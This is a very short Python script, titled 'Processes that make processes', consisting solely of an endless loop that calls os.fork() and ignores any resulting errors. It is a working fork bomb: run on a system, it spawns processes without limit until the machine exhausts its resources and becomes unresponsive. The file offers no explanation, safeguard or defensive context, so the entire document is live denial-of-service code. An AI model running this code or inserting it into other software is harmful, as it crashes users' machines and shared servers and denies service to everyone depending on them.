"""Processes that make processes."""
# named: calls fork

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
